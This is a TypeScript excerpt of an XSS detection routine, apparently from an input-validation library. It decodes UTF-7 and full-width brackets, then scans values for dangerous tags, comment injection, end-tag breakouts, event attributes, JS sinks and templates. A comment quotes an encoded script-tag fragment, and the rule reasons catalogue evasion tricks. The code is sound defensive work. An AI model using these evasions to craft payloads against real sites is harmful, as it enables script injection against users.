/** At `a`, after `</`: a letter that starts an end tag scanHtmlTags visits (not one it passes over). */
function endTagVisited(value: string, a: number): boolean {
  return a < value.length && isAsciiLetter(value.charCodeAt(a)) && shortEndTag(value, a, CONTEXT_MIN) === -1;
}

function setPass(f: number, need: number, plus: boolean, firstNameLt: number, roots: number[] | undefined): void {
  pF = f;
  pNeed = need;
  pPlus = plus;
  pFirstNameLt = firstNameLt;
  pRoots = roots;
}

export function detectXss(value: string): Detection | undefined {
  if (typeof value !== 'string' || value.length < 2) return undefined;
  // Fast path: one pass over the value. Without any `<`, colon, parenthesis, backtick, brace, `=` or
  // `&`, nothing here can become markup or script (a quote alone, as in "O'Brien", cannot either).
  // The pass also notes which scans can fire (N_*), looking around `(`, backticks, `:`, `=` and `&`:
  // a few characters each (the blanks skipped after a colon stop at the next non-blank, so no
  // character is skipped twice).
  prePass(value);
  let f = pF;
  let need = pNeed;
  const plus = pPlus;
  const firstNameLt = pFirstNameLt;
  let roots = pRoots;
  pRoots = undefined;
  const n = value.length;
  if (f === 0) return undefined;
  if (
    !plus &&
    !(f & (F_LT | F_FULLWIDTH_LT)) &&
    !schemesMayFire(f, need) &&
    !(f & F_AMP && n <= 16) && // loneEncodedLt below
    !(f & F_EQ && need & N_EVENT) &&
    !(f & F_COLON && need & N_CSS) &&
    !(f & (F_PAREN | F_BACKTICK) && need & (N_SINK | N_INDIRECT)) &&
    !(f & F_BRACE && need & (N_TPL | N_JSENT)) &&
    // (scanTemplateCode: a call needs `(` or a backtick, an assignment `=`.)
    !(need & N_TPL_CODE && f & (F_PAREN | F_BACKTICK | F_EQ)) &&
    !(need & N_DOM) &&
    // (scanBreakoutStatement: a value that starts with a quote, or a number glued to `;` and a name;
    // at most ~40 characters read, and an indexOf of `//` after such a number.)
    !quoteHead(value) &&
    !numberHead(value)
  ) {
    return undefined; // no scan below can fire
  }
  const best = new Best();
  if (f & F_AMP && loneEncodedLt(value)) {
    return { rule: 'xss.encoded-probe', confidence: 'high', reason: 'A value that is only a numeric character reference to <, a probe for entity decoding.' };
  }
  let s = value;
  if (f & F_FULLWIDTH_LT) {
    // Full-width brackets become `<`/`>` under NFKC normalisation, which some back ends apply.
    s = s.replaceAll('\uff1c', '<').replaceAll('\uff1e', '>').replaceAll('\u00bc', '<').replaceAll('\u00be', '>');
  }
  if (plus && s.includes('+ADw-')) {
    // UTF-7 (`+ADw-script+AD4-`), which a page served without a charset could be sniffed as.
    s = s.replaceAll('+ADw-', '<').replaceAll('+AD4-', '>').replaceAll('+ACI-', '"').replaceAll('+ACc-', "'");
    f |= F_LT;
  }
  // The N_* gates were read on the raw value: a rewritten one runs every scan its characters allow,
  // and its DOM roots are found again (UTF-7 shortened it).
  if (s !== value) {
    need = N_ALL;
    roots = undefined;
    for (let d = s.indexOf('.'); d !== -1; d = s.indexOf('.', d + 1)) {
      const root = domRootBefore(s, d);
      if (root !== -1) (roots ??= []).push(root);
    }
  }
  // Terminated start tags as [start, end) pairs, for the sink and DOM scans (code inside markup).
  let spans: number[] | undefined;
  let inert: number[] | undefined;
  if (f & (F_LT | F_FULLWIDTH_LT)) {
    const iframes: number[] = [];
    // (firstNameLt: where the pre-pass saw the first `<` that may start a judged name; a rewritten
    // value is scanned from its first `<`.)
    const from = s === value ? firstNameLt : s.indexOf('<');
    if (from !== -1 && scanDangerousTagNames(s, best, iframes, from)) return best.hit;
    // (Only a value that starts with a blank, quote, `>` or `<` can be made of end tags.)
    const c0 = s.charCodeAt(0);
    if ((c0 <= 32 || c0 === 60 || c0 === 62 || isQuote(c0)) && onlyEndTags(s)) {
      return { rule: 'xss.context-breakout', confidence: 'high', reason: 'A value made only of end tags, which close the element it was placed in.' };
    }
    // (One native search for `<?` per value with a `<`; most have none.)
    if (phpCode(s)) {
      return { rule: 'xss.server-code', confidence: 'high', reason: 'A PHP open tag followed by code.' };
    }
    const comment = openComment(s);
    if (comment !== -1) {
      if (leadsValue(s, comment)) {
        return { rule: 'xss.comment-injection', confidence: 'high', reason: 'A value that opens an HTML comment and never closes it, hiding the rest of the page.' };
      }
      best.add('comment-injection', 'medium', 'An HTML comment opened and never closed, which hides the rest of the page.');
    }
    const players: number[] = [];
    const st: TagState = { opened: undefined, prevEnd: -1, inert: undefined, ldOpen: false };
    if (!(need & N_TAGS)) {
      // No tag the scan would visit (N_TAGS): what it leaves is what it starts with.
      if (need & (N_SINK | N_DOM)) spans = [];
    } else if (need & (N_SINK | N_DOM)) {
      const list: number[] = (spans = []);
      scanHtmlTags(
        s,
        (tag) => {
          if (tag.terminated && !tag.closing) list.push(tag.start, tag.end);
          return visitTag(tag, s, best, players, st);
        },
        CONTEXT_MIN,
      );
    } else {
      scanHtmlTags(s, (tag) => visitTag(tag, s, best, players, st), CONTEXT_MIN);
    }
    inert = st.inert;
    if (best.high) return best.hit;
    // Every `<iframe` that is not a player embed the tag scanner read as a tag (inside an attribute
    // value, a comment, another parser's view of the quotes) is high. Both lists ascend: one merge walk.
    for (let a = 0, b = 0; a < iframes.length; a++) {
      const at = iframes[a] as number;
      while (b < players.length && (players[b] as number) < at) b++;
      if (players[b] !== at) {
        best.add('embed-tag', 'high', 'An <iframe> tag that loads active content.');
        return best.hit;
      }
    }
  }
  if (schemesMayFire(f, need)) {
    if (scanSchemes(s, best, inert)) return best.hit;
  }
  if (f & F_EQ && need & N_EVENT) {
    if (scanEventAttributes(s, best)) return best.hit;
  }
  if (f & F_COLON && need & N_CSS) {
    if (scanCss(s, best)) return best.hit;
  }
  if (f & (F_PAREN | F_BACKTICK)) {
    if (need & N_SINK && scanJsSinks(s, best, spans)) return best.hit;
    if (need & N_INDIRECT && scanJsIndirect(s, best)) return best.hit;
  }
  if (f & F_BRACE) {
    if (need & N_TPL && scanTemplates(s, best)) return best.hit;
    if (f & F_AMP && need & N_JSENT && scanJsEntities(s, best)) return best.hit;
  }
  if (roots !== undefined && scanDom(s, best, spans, roots)) return best.hit;
  if (!best.high && (quoteHead(s) || numberHead(s)) && scanBreakoutStatement(s, best)) return best.hit;
  if (!best.high && need & N_TPL_CODE && f & (F_PAREN | F_BACKTICK | F_EQ) && scanTemplateCode(s, best)) return best.hit;
  return best.hit;
}
